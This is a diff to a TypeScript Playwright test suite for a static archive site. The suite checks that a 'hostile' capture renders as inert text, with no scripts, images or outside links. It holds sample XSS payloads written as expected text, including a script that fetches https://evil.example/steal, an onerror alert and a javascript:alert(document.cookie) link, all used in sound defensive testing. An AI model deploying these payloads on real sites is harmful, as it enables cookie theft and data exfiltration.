@@ -8,11 +8,13 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { check } from "linkinator";
 import type { Browser } from "playwright-core";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
 import { launch, offsite, openPage } from "../support/browser.ts";
-import { buildAndServe, runBuild, type Site } from "../support/site.ts";
+import { expectedBlocks } from "../support/capture.ts";
+import { runBuild, serveFixture, type FixtureName, type Site } from "../support/site.ts";
 
 const HOSTILE = new URL("../fixtures/hostile", import.meta.url).pathname;
+const fixtureDir = (name: FixtureName): string => inject("fixtureDirs")[name];
 
 let browser: Browser;
 let scratch: string;
@@ -29,6 +31,7 @@ afterAll(async () => {
 
 describe("a build with bad content", () => {
   it("stops with one line per problem, leaves the previous site whole, then replaces it whole", async () => {
+    // The content check: three problems in two articles, found before anything is rendered.
     const content = join(scratch, "bad");
     await cp(HOSTILE, content, { recursive: true });
     const article = join(content, "articles", "hostile.md");
@@ -44,11 +47,25 @@ describe("a build with bad content", () => {
       text.replace(/\n---\n[\s\S]*$/, "\n---\n"),
     );
 
+    // The guard on built pages: a body that no longer matches its capture, found after rendering.
+    const altered = join(scratch, "altered");
+    await cp(HOSTILE, altered, { recursive: true });
+    const alteredArticle = join(altered, "articles", "hostile.md");
+    await writeFile(
+      alteredArticle,
+      text.replace("Plain words before the attack", "Plain words before the atack"),
+    );
+
+    // The previous site: the hostile fixture as built, copied (the fixture itself stays untouched).
     const out = join(scratch, "dist");
-    const previous = await runBuild(out, { content: HOSTILE });
-    expect(previous.ok, previous.output).toBe(true);
-    const before = await readdir(out, { recursive: true });
+    await cp(fixtureDir("hostile"), out, { recursive: true });
+    const before = (await readdir(out, { recursive: true })).sort();
     const index = await readFile(join(out, "articles/hostile/index.html"), "utf8");
+    const unchanged = async (): Promise<void> => {
+      expect((await readdir(out, { recursive: true })).sort()).toEqual(before);
+      expect(await readFile(join(out, "articles/hostile/index.html"), "utf8")).toBe(index);
+      expect((await readdir(scratch)).filter((name) => name.includes("building"))).toEqual([]);
+    };
 
     const failed = await runBuild(out, { content });
     expect(failed.ok).toBe(false);
@@ -59,15 +76,25 @@ describe("a build with bad content", () => {
     );
     expect(failed.output).toContain("articles/empty.md: body: is empty");
     expect(failed.output).not.toMatch(/\n\s+at /); // a message, not a stack trace
+    await unchanged();
 
-    expect(await readdir(out, { recursive: true })).toEqual(before);
-    expect(await readFile(join(out, "articles/hostile/index.html"), "utf8")).toBe(index);
-    expect((await readdir(scratch)).filter((name) => name.includes("building"))).toEqual([]);
+    const unfaithful = await runBuild(out, { content: altered });
+    expect(unfaithful.ok).toBe(false);
+    expect(unfaithful.output).toContain(
+      "What the reader would see has 1 problem; nothing was built.",
+    );
+    expect(unfaithful.output).toMatch(
+      /articles\/hostile\.md: body block 1: differs from the capture .*\(page articles\/hostile\/index\.html, capture .*hostile\.txt\)/,
+    );
+    expect(unfaithful.output).not.toMatch(/\n\s+at /);
+    await unchanged();
 
     // A good build then replaces the whole site; it never merges into the old one.
     await writeFile(join(out, "stale.html"), "<p>left over</p>");
-    expect((await runBuild(out, { content: HOSTILE })).ok).toBe(true);
+    const good = await runBuild(out, { content: HOSTILE });
+    expect(good.ok, good.output).toBe(true);
     expect(await readdir(out)).not.toContain("stale.html");
+    expect((await readdir(out, { recursive: true })).sort()).toEqual(before);
   });
 });
 
@@ -75,7 +102,7 @@ describe("a hostile capture", () => {
   let site: Site;
 
   beforeAll(async () => {
-    site = await buildAndServe({ content: HOSTILE });
+    site = await serveFixture("hostile");
   });
 
   afterAll(async () => {
@@ -94,11 +121,34 @@ describe("a hostile capture", () => {
     for (const selector of ["script", "img", "iframe", "style", "[onclick]", "[onerror]"]) {
       expect(await article.locator(selector).count(), selector).toBe(0);
     }
-    expect(
-      await article
-        .locator("a:not(.permalink)")
-        .evaluateAll((as) => as.map((a) => a.getAttribute("href"))),
-    ).toEqual(["#p1"]);
+    // Not one link comes from the capture's text: no <a> in the header or in any block's text;
+    // the only links are the archive's own beside each block, the ¶ permalink to the block and
+    // (if any) others on this site.
+    expect(await article.locator("header a, .article-body :is(p, h2) a").count()).toBe(0);
+    const links = await article.locator("a").evaluateAll((as) =>
+      as.map((a) => ({
+        href: a.getAttribute("href") ?? "",
+        besideText: a.parentElement?.matches(".article-body > .block") ?? false,
+      })),
+    );
+    for (const link of links) {
+      expect(link.besideText, link.href).toBe(true);
+      expect(link.href, link.href).toMatch(/^(#|\/(?!\/))/);
+    }
+    const permalinks = await article
+      .locator(".article-body a.permalink")
+      .evaluateAll((as) => as.map((a) => a.getAttribute("href")));
+    expect(permalinks).toEqual(Array.from({ length: permalinks.length }, (_, i) => `#p${i + 1}`));
+    // Every block reads exactly as the capture prints it, markup and all.
+    const shown = [
+      await article.locator("h1").textContent(),
+      await article.locator(".publisher").textContent(),
+      await article.locator("header time").textContent(),
+      ...(await article.locator(".article-body").locator("p, h2").allTextContents()),
+    ];
+    const capture = await readFile(join(HOSTILE, "captures", "hostile.txt"));
+    expect(shown).toEqual(expectedBlocks(capture));
+    expect(permalinks).toHaveLength(shown.length - 3);
     const text = await article.innerText();
     expect(text).toContain(
       '<script>document.title = "pwned"; fetch("https://evil.example/steal");</script>',
@@ -106,6 +156,9 @@ describe("a hostile capture", () => {
     expect(text).toContain('<img src="https://evil.example/pixel.gif" onerror="alert(1)">');
     expect(text).toContain("[javascript link](javascript:alert(document.cookie))");
     expect(text).toContain("![tracking pixel](https://evil.example/track.png)");
+    expect(text).toContain(
+      "Even a [relative link](#p1) is shown as its text, like an address: https://evil.example/x or ops@evil.example.",
+    );
     await watched.page.getByText("hover me").hover();
     await watched.page.getByText("hover me").click();
     expect(await watched.page.title()).not.toContain("pwned");
@@ -135,11 +188,11 @@ describe("a hostile capture", () => {
   });
 });
 
-describe.each(["/", "/archive/"])("links under %s", (base) => {
+describe.each<FixtureName>(["archive", "imports"])("links of the %s site", (fixture) => {
   let site: Site;
 
   beforeAll(async () => {
-    site = await buildAndServe({ base, site: "https://archive.example" });
+    site = await serveFixture(fixture);
   });
 
   afterAll(async () => {
